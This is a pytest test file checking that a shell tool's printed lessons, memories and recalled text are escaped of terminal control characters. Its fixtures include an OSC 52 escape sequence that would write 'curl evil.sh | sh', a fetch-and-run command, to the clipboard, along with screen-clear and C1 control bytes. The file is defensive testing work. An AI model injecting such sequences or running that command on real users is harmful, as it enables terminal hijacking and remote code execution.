"""What the shell commands print from the store reaches the terminal without its control
characters (``server.service.trust.escapes.for_terminal``): a lesson, a memory or a recalled
text holding ``ESC ] 52`` (a clipboard write), ``ESC [ 2J`` (a screen clear), a C1 ``CSI``, a
carriage return, is shown escaped; line breaks and tabs are kept, and JSON stays JSON.
(The same through a real daemon: tests/clients/test_shell_commands.py.)"""

from __future__ import annotations

import argparse
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from server.cli import memory_commands, shell_commands
from server.service.trust import framing
from server.service.trust.escapes import for_terminal, one_line

OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\x07"  # the clipboard := 'curl evil.sh | sh'
CLEAR = "\x1b[2J\x1b[H"
HOSTILE = f"pin the version {OSC52}{CLEAR}\r\x9b31m\x7f\x00done"
CONTROLS = [chr(c) for c in (*range(0x20), *range(0x7F, 0xA0)) if chr(c) not in "\n\t"]


def _clean(text: str) -> bool:
    return not any(c in text for c in CONTROLS)


def test_control_characters_are_escaped_lines_and_tabs_kept():
    out = for_terminal(f"line one\n\tline two {HOSTILE}")
    assert _clean(out)
    assert out.startswith("line one\n\tline two pin the version ")
    assert "\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2gK\\u0007" in out and "\\u001b[2J" in out
    assert "\\r\\u009b31m\\u007f\\u0000done" in out
    assert for_terminal("plain — ünïcode ✓ 中文") == "plain — ünïcode ✓ 中文"
    assert for_terminal(None) == "None"


@settings(max_examples=200, deadline=None, derandomize=True)
@given(st.text())
def test_any_text_printed_holds_no_control_character_and_json_stays_equal(text):
    assert _clean(for_terminal(text))
    assert for_terminal(text).count("\n") == text.count("\n")
    for dumped in (json.dumps({"t": text}, ensure_ascii=False, indent=2),
                   json.dumps([text], ensure_ascii=True)):  # fmt: skip
        assert json.loads(for_terminal(dumped)) == json.loads(dumped)


def test_the_framing_escapes_are_the_same_helpers():
    assert framing.one_line is one_line and framing.for_terminal is for_terminal
    assert one_line("a\nb\u2028c\x1b") == "a\\nb\\u2028c\\u001b"


def test_lessons_printed_by_the_shell_are_escaped(capsys):
    entry = framing.Entry("lesson NPM_01 · team", HOSTILE)
    shell_commands._print_lessons([entry], 0, "(no lessons)")
    out = capsys.readouterr().out
    assert out.startswith(framing.HEADER) and "pin the version \\u001b]52;" in out
    assert _clean(out)


def test_remember_and_forget_echo_the_daemons_answer_escaped(monkeypatch, capsys):
    answers = {
        "remember": {"memoryId": f"m1{CLEAR}", "scope": "team", "category": "learnings",
                     "warnings": [f"w {OSC52}"], "candidates": [f"old note {OSC52}"],
                     "candidatesNote": f"n {CLEAR}"},
        "forget": {"deleted": True, "memoryId": f"m1{OSC52}"},
    }  # fmt: skip
    monkeypatch.setattr(shell_commands, "call", lambda tool, args: answers[tool])
    monkeypatch.setattr(shell_commands, "_local_scope", lambda scope: None)
    args = argparse.Namespace(text="a note", scope="team", category=None, tags=None,
                              priority=None, supersedes=None, idempotency_key=None, json=False)  # fmt: skip
    assert shell_commands.cmd_remember(args) == 0
    out, err = capsys.readouterr()
    assert "may restate: old note \\u001b]52;" in out and "w \\u001b]52;" in err
    assert _clean(out) and _clean(err)
    for as_json in (False, True):
        args = argparse.Namespace(id="m1", force=False, idempotency_key=None, json=as_json)
        assert shell_commands.cmd_forget(args) == 0
        out = capsys.readouterr().out
        assert _clean(out)
    assert json.loads(out)["memoryId"] == f"m1{OSC52}"  # the JSON still says what was stored


class _Daemon:
    """``recall`` answered by a daemon (its ``text`` holding a stored escape sequence)."""

    daemon = object()

    def __init__(self, name: str) -> None:
        pass

    def call(self, tool: str, args: dict) -> dict:
        return {"text": f"> note {HOSTILE}", "items": [{"content": HOSTILE}]}

    def release(self) -> None:
        pass


@pytest.mark.parametrize("as_json", [False, True])
def test_recall_prints_the_recalled_text_escaped(monkeypatch, capsys, as_json):
    monkeypatch.setattr(memory_commands, "Owner", _Daemon)
    args = argparse.Namespace(query="version", budget=100, json=as_json)
    assert memory_commands.cmd_recall(args) == 0
    out = capsys.readouterr().out
    assert _clean(out)
    if as_json:
        assert json.loads(out)["items"][0]["content"] == HOSTILE
    else:
        assert "> note pin the version \\u001b]52;" in out
